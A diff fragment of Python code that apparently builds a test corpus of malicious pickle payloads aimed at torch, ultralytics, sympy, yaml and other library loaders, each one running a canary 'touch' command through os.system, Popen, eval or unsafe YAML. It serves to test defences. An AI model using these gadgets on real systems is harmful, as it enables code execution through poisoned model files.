+}  # fmt: skip
+
+# --- A5: functions under other packages' names ------------------------------------------------------
+
+
+def calling(module: str, qualified: str, *arguments: Callable[[str], bytes], must_run: bool = True, spelled: Callable[[str, str], bytes] = name) -> Attack:  # fmt: skip
+    return Attack(
+        "A5",
+        zipped(lambda canary: call(spelled(module, qualified), *(argument(canary) for argument in arguments))),
+        must_run=must_run,
+    )
+
+
+def words(canary: str) -> bytes:
+    return listed(text("touch"), text(canary))
+
+
+def shell(canary: str) -> bytes:
+    return text("touch " + shlex.quote(canary))
+
+
+def path(canary: str) -> bytes:
+    return text(canary)
+
+
+def expression(canary: str) -> bytes:
+    return text(f"__import__('os').system({'touch ' + shlex.quote(canary)!r})")
+
+
+def just(value: bytes) -> Callable[[str], bytes]:
+    return lambda _canary: value
+BASES: Mapping[str, Attack] = {
+    "base_of_files": reconstructed(("io", "FileIO"), ("io", "FileIO"), path, must_run=False),
+    "base_memmap": reconstructed(("numpy", "memmap"), ("numpy", "memmap"), path, must_run=False),
+    "base_argument_parser": reconstructed(("argparse", "Namespace"), ("argparse", "ArgumentParser"), path, must_run=False),
+    "base_model": reconstructed(
+        ("ultralytics.nn.tasks", "DetectionModel"),
+        ("ultralytics.nn.tasks", "DetectionModel"),
+        lambda canary: MODEL_YAML(canary),
+        must_run=False,
+    ),
+    "base_backend": reconstructed(
+        ("ultralytics.nn.autobackend", "AutoBackend"), ("ultralytics.nn.autobackend", "AutoBackend"), path, must_run=False
+    ),
+    "base_ordered_dict": reconstructed(
+        ("collections", "OrderedDict"),
+        ("builtins", "dict"),
+        lambda canary: armed("keys", without_arguments(canary)),
+    ),
+    "base_list": reconstructed(
+        ("torch.nn.modules.container", "Sequential"),
+        ("builtins", "object"),
+        lambda canary: sequence_over(without_arguments(canary)),
+        must_run=False,
+    ),
+    "base_set": reconstructed(
+        ("builtins", "set"), ("builtins", "set"), lambda canary: sequence_over(without_arguments(canary))
+    ),
+    "base_deque": reconstructed(
+        ("collections", "deque"), ("collections", "deque"), lambda canary: sequence_over(without_arguments(canary))
+    ),
+    "base_tuple": reconstructed(
+        ("torch", "Size"), ("builtins", "tuple"), lambda canary: sequence_over(without_arguments(canary)), must_run=False
+    ),
+    "base_counter": reconstructed(
+        ("collections", "Counter"), ("collections", "Counter"), lambda canary: sequence_over(without_arguments(canary)), must_run=False
+    ),
+    "base_partial": reconstructed(("functools", "partial"), ("functools", "partial"), without_arguments, must_run=False),
+    "base_parameter": reconstructed(
+        ("torch.nn.parameter", "Parameter"),
+        ("torch.nn.parameter", "Parameter"),
+        lambda canary: armed("detach", without_arguments(canary)),
+    ),
+    "base_buffer": reconstructed(
+        ("torch.nn.parameter", "Buffer"),
+        ("torch.nn.parameter", "Buffer"),
+        lambda canary: armed("detach", without_arguments(canary)),
+    ),
+    "base_loss": reconstructed(
+        ("ultralytics.utils.loss", "v8DetectionLoss"),
+        ("ultralytics.utils.loss", "v8DetectionLoss"),
+        lambda canary: armed("parameters", without_arguments(canary)),
+        must_run=False,
+    ),
+    "base_symbolic": reconstructed(("torch", "SymInt"), ("torch", "SymInt"), without_arguments, must_run=False),
+}
+
+
+def MODEL_YAML(canary: str) -> bytes:  # noqa: N802
+    return mapping(activation=expression(canary), backbone=EMPTY_LIST, head=EMPTY_LIST, nc=integer(1), ch=integer(3))
+
+
+def stated(module: str, qualified: str, state: Builder, must_run: bool = True) -> Attack:
+    """A class of a known trainer whose ``__setstate__`` does more than keep what it is given."""
+    return Attack("A2", zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD), must_run=must_run)
+
+
+def made(module: str, qualified: str, *arguments: Builder, must_run: bool = True, opcode: bytes = NEWOBJ) -> Attack:
+    """A class of a known trainer whose ``__new__`` asks its arguments for methods."""
+    return Attack(
+        "A2",
+        zipped(lambda canary: name(module, qualified) + items(*(argument(canary) for argument in arguments)) + opcode),
+        must_run=must_run,
+    )
+
+
+def group_state(canary: str) -> bytes:
+    """Optimizers ask their groups for ``setdefault``."""
+    return mapping(param_groups=listed(armed("setdefault", with_two(canary))), defaults=EMPTY_DICT, state=EMPTY_DICT)
+
+
+def with_two(canary: str) -> bytes:
+    """A callable that runs the payload when it is called with two arguments."""
+    made = PARTIAL + items(FROM_TYPE, REBUILD, PARAMETER) + REDUCE
+    return made + items(CTOR, EMPTY_TUPLE, EMPTY_DICT, NONE) + BUILD if False else two_arguments(canary)
+
+
+def two_arguments(canary: str) -> bytes:
+    """The function and the type are fixed; what is asked for and its default become arguments and state.
+
+    ``_rebuild_from_type_v2(function, type, "nesterov", False)`` calls ``function(*"nesterov")``: eight arguments,
+    which a partial over keywords swallows.
+    """
+    inner = with_anything(canary)
+    return refilled(FROM_TYPE, REBUILD + PARAMETER, inner, PARAMETER)
+
+
+def mapped(**entries: Builder) -> Builder:
+    return lambda canary: mapping(**{key: value(canary) for key, value in entries.items()})
+
+
+TRAINERS: Mapping[str, Attack] = {
+    "parameter_detaches": made("torch.nn.parameter", "Parameter", lambda canary: armed("detach", without_arguments(canary))),
+    "parameter_detaches_ex": Attack(
+        "A2",
+        zipped(
+            lambda canary: PARAMETER + EMPTY_TUPLE + mapping(data=armed("detach", without_arguments(canary))) + NEWOBJ_EX
+        ),
+    ),
+    "parameter_by_function": Attack(
+        "A2", zipped(lambda canary: call(name("copyreg", "__newobj__"), PARAMETER, armed("detach", without_arguments(canary))))
+    ),
+    "parameter_by_function_ex": Attack(
+        "A2",
+        zipped(
+            lambda canary: call(
+                name("copyreg", "__newobj_ex__"), PARAMETER, items(armed("detach", without_arguments(canary))), EMPTY_DICT
+            )
+        ),
+    ),
+    "buffer_detaches": made("torch.nn.parameter", "Buffer", lambda canary: armed("detach", without_arguments(canary))),
+    "teacher_state": stated(
+        "ultralytics.nn.distill_model", "DistillationModel", lambda canary: armed("setdefault", with_anything(canary)), must_run=False
+    ),
+    "optimizer_groups": stated("torch.optim.sgd", "SGD", group_state),
+    "optimizer_groups_adam": stated("torch.optim.adam", "Adam", group_state),
+    "tokenizer_vocabulary": stated(
+        "transformers.models.roformer.tokenization_roformer",
+        "RoFormerTokenizer",
+        lambda canary: mapping(_tokenizer=armed("get_vocab", without_arguments(canary))),
+        must_run=False,
+    ),
+    "attention_state": stated(
+        "torch.nn.modules.activation", "MultiheadAttention", lambda canary: sequence_over(without_arguments(canary)), must_run=False
+    ),
+    "module_state_has_keys": stated(
+        "torch.nn.modules.linear", "Linear", lambda canary: armed("keys", without_arguments(canary))
+    ),
+    "optimizer_state_has_keys": stated("torch.optim.sgd", "SGD", lambda canary: armed("keys", without_arguments(canary))),
+    "metric_state_has_keys": stated(
+        "torchmetrics.classification.accuracy",
+        "MulticlassAccuracy",
+        lambda canary: armed("keys", without_arguments(canary)),
+    ),
+    "batch_state": stated(
+        "transformers.feature_extraction_utils", "BatchFeature", lambda canary: sequence_over(without_arguments(canary))
+    ),
+    "yaml_of_model": Attack("A2", lambda canary: yolo_with_yaml(canary), loader="train"),
+}
+
+
+def yolo_with_yaml(canary: str) -> bytes:
+    checkpoint = ultralytics_checkpoint(ema=None, model=None)
+    return torch_zip(pickled(Writer().value(checkpoint)))
+
+
+def called(module: str, qualified: str, *arguments: Callable[[str], bytes], must_run: bool = True) -> Attack:
+    return calling(module, qualified, *arguments, must_run=must_run)
+
+
+def keyed(canary: str) -> bytes:
+    return call(name("sortedcontainers", "SortedKeyList"), listed(blob(evil(canary))), LOAD)
+
+
+PACKAGES: Mapping[str, Attack] = {
+    "psutil_popen": called("psutil", "Popen", words),
+    "psutil_popen_newobj_init": Attack(
+        "A5", zipped(lambda canary: call(RECONSTRUCTOR, name("psutil", "Popen"), name("psutil", "Popen"), words(canary)))
+    ),
+    "sympy_s": called("sympy", "S", expression),
+    "sympy_finite_set": called("sympy", "FiniteSet", expression),
+    "sympy_equation": called("sympy", "Eq", expression, expression),
+    "sympy_matrix": called("sympy", "Matrix", lambda canary: listed(expression(canary))),
+    "sympy_lambda": called("sympy", "Lambda", just(text("x")), expression),
+    "sympy_poly": called("sympy", "Poly", expression),
+    "cv2_video_writer": called("cv2", "FileStorage", path, just(integer(1))),
+    "click_edit": called("click", "edit", just(NONE), lambda canary: text("touch " + shlex.quote(canary) + " #")),
+    "watchfiles_import": called("watchfiles.run", "import_string", just(text("os.system"))),
+    "watchfiles_process": called("watchfiles.run", "import_module", just(text("antigravity")), must_run=False),
+    "filelock_file": called("filelock._identity._process", "FileIO", path, just(text("w"))),
+    "filelock_lock": Attack(
+        "A5", zipped(lambda canary: call(name("filelock", "FileLock"), path(canary)) + POP + NONE), must_run=False
+    ),
+    "fonttools_open": called("fontTools.misc.py23", "open", path, just(text("w"))),
+    "pygments_textio": called("pygments.util", "TextIOWrapper", just(NONE), must_run=False),
+    "sorted_key": Attack("A5", zipped(keyed)),
+    "deepdiff_load": called("deepdiff.serialization", "pickle_load", lambda canary: blob(tar_pickle(canary)), must_run=False),
+    "mypy_run": called("mypy.api", "run", lambda canary: listed(text("--junit-xml"), text(canary), text("-c"), text("x=1")), must_run=False),
+    "execnet_gateway": called("execnet.gateway_bootstrap", "bootstrap", must_run=False),
+    "execnet_makegateway": called("execnet", "makegateway", lambda canary: text("popen//python=touch " + canary), must_run=False),
+    "charset_open": called("charset_normalizer", "from_path", path, must_run=False),
+    "send2trash": called("send2trash", "send2trash", just(text("/nonexistent")), must_run=False),
+    "six_getoutput": called("six.moves", "getoutput", shell, must_run=False),
+    "six_exec": called("six", "exec_", lambda canary: text(f"open({canary!r}, 'w').close()"), must_run=False),
+    "six_eval": calling("six", "moves.builtins.eval", expression, must_run=False, spelled=stack_name),
+    "tqdm_main": called("tqdm.cli", "main", must_run=False),
+    "tqdm_file": called("tqdm.contrib", "DummyTqdmFile", just(NONE), must_run=False),
+    "torch_cpp": called("torch.utils.cpp_extension", "CppExtension", path, just(EMPTY_LIST), must_run=False),
+    "torch_file_writer": called("torch", "PyTorchFileWriter", path, must_run=False),
+    "torch_file_writer_c": called("torch._C", "PyTorchFileWriter", path),
+    "torch_package": called("torch.package", "PackageExporter", path),
+    "torch_package_importer": called("torch.package", "PackageImporter", path, must_run=False),
+    "torch_graph": called(
+        "torch.fx.graph_module",
+        "reduce_graph_module",
+        lambda canary: mapping(_code=text(f"open({canary!r}, 'w').close()\ndef forward(self): pass")),
+        just(text("")),
+        must_run=False,
+    ),
+    "torch_pytree": called("torch.utils._pytree", "tree_map", just(LOAD), lambda canary: listed(blob(evil(canary)))),
+    "torch_pytree_spec": called("torch.utils._pytree", "TreeSpec", path, just(NONE), just(EMPTY_LIST), must_run=False),
+    "torch_shape_env": called("torch.fx.experimental.symbolic_shapes", "Symbol", expression, must_run=False),
+    "numpy_memmap": called("numpy", "memmap", path, just(text("uint8")), just(text("w+")), just(integer(0)), just(shape_of(1))),
+    "numpy_data_source": called("numpy.lib.npyio", "DataSource", path, must_run=False),
+    "numpy_poly": called("numpy", "poly1d", just(listed(integer(1))), must_run=False),
+    "numpy_fromfile": called("numpy", "fromfile", path, must_run=False),
+    "pil_open": called("PIL.Image", "open", path, must_run=False),
+    "matplotlib_pdf": called("matplotlib.backends.backend_pdf", "PdfFile", path),
+    "polars_context": called("polars", "SQLContext", must_run=False),
+    "jinja_template": called("jinja2", "Template", lambda canary: text("{{ x }}"), must_run=False),
+    "jinja_environment": called("jinja2.bccache", "FileSystemBytecodeCache", path, must_run=False),
+    "typer_launch": called("typer", "Typer", must_run=False),
+    "setuptools_command": called("setuptools", "Extension", path, just(EMPTY_LIST), must_run=False),
+    "ultralytics_yaml": called("ultralytics.utils", "YAML", must_run=False),
+    "ultralytics_model": called("ultralytics", "YOLO", path, must_run=False),
+    "ultralytics_retry": called("ultralytics.utils", "Retry", must_run=False),
+    "ultralytics_settings": called("ultralytics.utils", "SettingsManager", path),
+    "ultralytics_json": called("ultralytics.utils", "JSONDict", path, must_run=False),
+    "ultralytics_tasks_path": called("ultralytics.nn.tasks", "Path", path, must_run=False),
+    "ultralytics_try_except": called("ultralytics.utils.checks", "check_requirements", just(text("nothing-of-this-name-here")), must_run=False),
+    "transformers_trainer": called("transformers.trainer_utils", "HPSearchBackend", path, must_run=False),
+    "lightning_cli": called("lightning.pytorch.cli", "LightningCLI", must_run=False),
+    "accelerate_menu": called("accelerate.commands.menu", "BulletMenu", must_run=False),
+    "yaml_object": called("yaml", "UnsafeLoader", path, must_run=False),
+    "yaml_unsafe": called("yaml", "unsafe_load", lambda canary: text("!!python/object/apply:os.system ['touch " + canary + "']")),
+    "dateutil_open": called("dateutil.tz", "tzfile", path, must_run=False),
+    "networkx_read": called("networkx", "read_gpickle", path, must_run=False),
+    "pip_vendored": called("pip._vendor.distlib.util", "Popen", words, must_run=False),
+    "distutils_spawn": called("setuptools._distutils.spawn", "spawn", words),
+    "torch_popen": called("torch.utils.collect_env", "run", shell),
+    "unknown_dotted": calling("pygments.util", "TextIOWrapper.open", path, must_run=False, spelled=stack_name),
+    "unknown_through_capwords": calling("filelock._soft._lease", "Thread", just(NONE), just(LOAD), must_run=False),
+    "unknown_thread_pool": calling("filelock._sqlite._async", "ThreadPoolExecutor", just(integer(1)), just(text("x")), just(LOAD), lambda canary: items(blob(evil(canary))), must_run=False),
+    "unknown_pool": calling("fontTools.diff.diff", "Pool", just(integer(1)), just(LOAD), lambda canary: items(blob(evil(canary))), must_run=False),
+    "unknown_method_type": calling("fontTools.subset", "MethodType", just(LOAD), lambda canary: blob(evil(canary)), must_run=False),
+}
+
+
+def method_called(canary: str) -> bytes:
+    """``MethodType(load, bytes)`` under an unknown package's name, called by APPEND's fellow with no argument."""
+    bound = call(name("fontTools.subset", "MethodType"), LOAD, blob(evil(canary)))
+    return call(name("builtins", "dict"), armed("keys", bound))
+
+
+ATTACKS: Mapping[str, Attack] = {
+    **dict(instance_methods()),
+    **STATES,
+    **FORMATS,
+    **DUCKS,
+    **BASES,
+    **TRAINERS,
+    **READERS,
+    **PACKAGES,
+    "method_type_as_keys": Attack("A5", zipped(method_called)),
+}
